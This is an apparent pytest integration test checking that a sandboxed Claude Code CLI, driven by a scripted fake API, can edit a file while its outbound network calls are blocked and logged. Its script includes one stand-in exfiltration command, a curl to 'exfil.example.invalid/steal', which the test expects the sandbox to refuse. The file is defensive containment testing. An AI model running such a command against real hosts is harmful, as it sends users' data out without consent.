"""The real Claude Code CLI through the whole pipeline, inside bubblewrap, against a scripted model.

Claude Code reaches only its scripted Messages API (ANTHROPIC_BASE_URL on loopback), through the
session's credential gateway; its `curl` to another host is refused and recorded.
"""

from __future__ import annotations

import argparse
import io
import os
from pathlib import Path

import pytest

from bot.cli.wiring import open_services
from bot.settings import load_settings
from runner.cli_run import run_from_terminal
from runner.sandbox import check_sandbox_support
from tests.agents import real_cli
from tests.agents.test_claude_real import MODEL
from tests.conftest import session_base
from tests.support.fake_anthropic import FakeAnthropic, call, say
from tests.support.gitrepo import git, make_repo, show_file

SANDBOX_OK, SANDBOX_DETAIL = check_sandbox_support()


@pytest.fixture(scope="session")
def claude_install() -> Path:
    """The data dir holding Claude Code from npm (installed on first use)."""
    return real_cli.agents_data_dir("claude")


@pytest.mark.skipif(not SANDBOX_OK, reason=f"bubblewrap sandbox unavailable here: {SANDBOX_DETAIL}")
async def test_claude_code_in_the_sandbox_edits_and_its_blocked_curl_is_a_violation(
        tmp_path: Path, claude_install: Path) -> None:
    origin = make_repo(tmp_path / "origin")
    data_dir = tmp_path / "data"
    (data_dir / "agents").mkdir(parents=True)
    os.symlink(claude_install / "agents" / "claude", data_dir / "agents" / "claude")
    script = [
        call("Bash", text="Writing the greeting.", command="echo 'print(42)' > hello.py && cat hello.py",
             description="Create hello.py"),
        call("Bash", command="curl -sS --max-time 5 https://exfil.example.invalid/steal || echo blocked",
             description="Try another host"),
        say("Added hello.py."),
    ]
    async with FakeAnthropic(script, api_key="sk-ant-test-key") as fake:
        env = {"SESAME_DATA_DIR": str(data_dir), "SESSION_DIR_BASE": session_base(),
               "ENCRYPTION_KEY": "ab" * 32, "ANTHROPIC_BASE_URL": fake.base_url,
               "ANTHROPIC_API_KEY": "sk-ant-test-key", "CLAUDE_MODEL": MODEL, "SESSION_TIMEOUT": "240"}
        services = await open_services(load_settings(env=env, cwd=tmp_path))
        try:
            out = io.StringIO()
            code = await run_from_terminal(services, argparse.Namespace(
                repo=str(origin), agent="claude", model=None, base=None, agent_command=None,
                no_sandbox=False, keep=False, prompt=["add", "hello.py"]), out)
            session = (await services.sessions.recent(1))[0]
            events = await services.sessions.events(session.id)
            violations = await services.sessions.violations(session.id)
        finally:
            await services.close()
    assert code == 0, f"{out.getvalue()}\n{session.error}"
    assert session.warning is None  # really sandboxed
    assert show_file(origin, session.branch, "hello.py") == "print(42)"
    tool_calls = [e.data["summary"] for e in events if e.kind == "tool_call"]
    assert any("echo 'print(42)' > hello.py" in s for s in tool_calls), tool_calls
    assert any(v.kind == "network" and v.resource.startswith("exfil.example.invalid") for v in violations)
    assert session.violation_count >= 1
    assert all(r.headers.get("x-api-key") == "sk-ant-test-key" for r in fake.message_requests)
    assert "sk-ant-test-key" not in git("log", "-p", "-1", session.branch, cwd=origin)
